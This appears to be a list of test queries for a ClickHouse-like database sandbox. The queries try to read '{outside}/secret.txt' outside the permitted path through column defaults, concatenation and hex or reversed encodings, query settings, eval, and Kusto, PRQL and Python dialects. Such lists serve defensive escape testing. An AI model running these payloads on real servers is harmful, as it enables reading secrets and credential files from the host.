## SQL within texts

SELECT * FROM format(JSONEachRow, 'a Int64, b String DEFAULT file(\'{outside}/secret.txt\')', '{"a":1}')

SELECT * FROM format('JSONEachRow', 'a Int64, b String DEFAULT file(\'{outside}/secret.txt\')', '{"a":1}')

SELECT * FROM format(JSONEachRow, concat('a Int64, b String DEFA', 'ULT file(\'{outside}/secret.txt\')'), '{"a":1}')

SELECT * FROM format(JSONEachRow, 'a Int64, b String DEFA' || 'ULT file(\'{outside}/secret.txt\')', '{"a":1}')

SELECT * FROM format(JSONEachRow, reverse('\')txt.terces/{outside-reversed}\'(elif TLUAFED gnirtS b ,46tnI a'), '{"a":1}')

SELECT * FROM format(JSONEachRow, (SELECT 'a Int64, b String DEFA' || 'ULT file(\'{outside}/secret.txt\')'), '{"a":1}')

WITH 'a Int64, b String DEFA' || 'ULT file(\'{outside}/secret.txt\')' AS s SELECT * FROM format(JSONEachRow, s, '{"a":1}')

WITH unhex('{structure-hex}') AS s SELECT * FROM format(JSONEachRow, s, '{"a":1}')

SELECT * FROM format(JSONEachRow, unhex('{structure-hex}'), '{"a":1}')

SELECT * FROM format(JSONEachRow, 'a Int64, b String MATERIALIZED file(\'{outside}/secret.txt\')', '{"a":1}')

SELECT * FROM format(JSONEachRow, 'a Int64, b String ALIAS file(\'{outside}/secret.txt\')', '{"a":1}')

SELECT b FROM format(JSONEachRow, 'a Int64, b String ALIAS (SELECT line FROM file(\'{outside}/secret.txt\', LineAsString))', '{"a":1}')

SELECT * FROM format(JSONEachRow, 'a Int64, b Array(String) DEFAULT arrayMap(file, [\'{outside}/secret.txt\'])', '{"a":1}')

SELECT * FROM values('a Int64, b String DEFAULT file(\'{outside}/secret.txt\')', (1, 'x'))

SELECT * FROM generateRandom('a Int64, b String DEFAULT file(\'{outside}/secret.txt\')') LIMIT 1

SELECT * FROM null('a Int64, b String DEFAULT file(\'{outside}/secret.txt\')')

INSERT INTO {table} SELECT b FROM input('a Int64, b String DEFAULT file(\'{outside}/secret.txt\')') FORMAT JSONEachRow {"a":1}

INSERT INTO FUNCTION null('a Int64, b String DEFAULT file(\'{outside}/secret.txt\')') VALUES (1, 'x')

SELECT * FROM format(Values, 'b String', '(file(\'{outside}/secret.txt\'))')

SELECT * FROM format(Values, 'b String', '((SELECT line FROM file(\'{outside}/secret.txt\', LineAsString)))')

SELECT * FROM format(Values, 'b Array(String)', '(arrayMap(file, [\'{outside}/secret.txt\']))') SETTINGS input_format_values_interpret_expressions = 1

SELECT * FROM format(JSONEachRow, '{"a":1}') SETTINGS schema_inference_hints = 'a Int64, b String DEFAULT file(\'{outside}/secret.txt\')'

SELECT * FROM format(JSONEachRow, '{"a":1}')
? schema_inference_hints=a Int64, b String DEFAULT file('{outside}/secret.txt')

SELECT * FROM {table} SETTINGS additional_table_filters = {'{table}': 'throwIf(1, file(\'{outside}/secret.txt\'))'}

SELECT * FROM {table}
? additional_table_filters={'{table}':'throwIf(1, file(\'{outside}/secret.txt\'))'}

SELECT 1 SETTINGS additional_result_filter = 'throwIf(1, file(\'{outside}/secret.txt\'))'

SELECT 1
? additional_result_filter=throwIf(1, file('{outside}/secret.txt'))

SELECT * FROM {table} SETTINGS enable_parallel_replicas = 1, cluster_for_parallel_replicas = 'default', parallel_replicas_custom_key = 'file(\'{outside}/secret.txt\')'

SELECT * FROM eval('SELECT file(\'{outside}/secret.txt\')')

SELECT * FROM fuzzQuery('SELECT file(\'{outside}/secret.txt\')', 10, 1) LIMIT 3

SELECT formatQuery('SELECT file(\'{outside}/secret.txt\')')

## expressions within the data of VALUES

INSERT INTO {table} VALUES (file('{outside}/secret.txt'))

INSERT INTO {table} VALUES ('x'), (file('{outside}/secret.txt'))

INSERT INTO {table} VALUES ('x') (file('{outside}/secret.txt'))

INSERT INTO {table} VALUES (`f\x69le`('{outside}/secret.txt'))

INSERT INTO {table} VALUES (file/* */('{outside}/secret.txt'))

INSERT INTO {table} VALUES (toString(arrayMap(file, ['{outside}/secret.txt'])))

INSERT INTO {table} VALUES ((SELECT file('{outside}/secret.txt')))

INSERT INTO {table} VALUES ((SELECT line FROM file('{outside}/secret.txt', 'LineAsString')))

INSERT INTO {table} VALUES ((SELECT a FROM '{outside}/secret.csv' LIMIT 1))

INSERT INTO {table} VALUES ((SELECT hostName())), (concat(file('{outside}/secret.txt'), 'x'))

INSERT INTO {table} SETTINGS input_format_values_interpret_expressions = 1 VALUES (file('{outside}/secret.txt'))

INSERT INTO {table} FORMAT Values (file('{outside}/secret.txt'))

INSERT INTO {table} FORMAT VALUES (file('{outside}/secret.txt'))

INSERT INTO {table}
? default_format=Values&query=INSERT INTO {table}
then
(file('{outside}/secret.txt'))
? default_format=Values&query=INSERT INTO {table}

INSERT INTO {table} VALUES ('a' , 'b') , (file('{outside}/secret.txt'))

INSERT INTO {table} VALUES ('{long}'), (file('{outside}/secret.txt'))

INSERT INTO FUNCTION null('a String') VALUES (throwIf(1, file('{outside}/secret.txt')))

## other languages than SQL

SET dialect = 'kusto'

SELECT 1 SETTINGS dialect = 'prql'

print file('{outside}/secret.txt')
? dialect=kusto&allow_experimental_kusto_dialect=1

from `{outside}/secret.csv` | take 1
? dialect=prql&allow_experimental_prql_dialect=1

SELECT * FROM '{outside}/secret.csv'
? dialect=polyglot&polyglot_dialect=mysql&allow_experimental_polyglot_dialect=1

SELECT * FROM python('import os; os.listdir("{outside}")')

SELECT * FROM Python(secret) SETTINGS allow_python_table_function = 1

SELECT * FROM arrowstream('1')

SELECT * FROM arrowstream('140737488355328')

CREATE TABLE {name} (a String) ENGINE = ArrowStream('1')

SELECT * FROM dataframe('x')

SELECT chdb()

CREATE FUNCTION {name} LANGUAGE WASM ABI ROW_DIRECT FROM 'x' ARGUMENTS (a UInt32) RETURNS UInt32

CREATE TABLE {name} (a String) ENGINE = QueryRunner
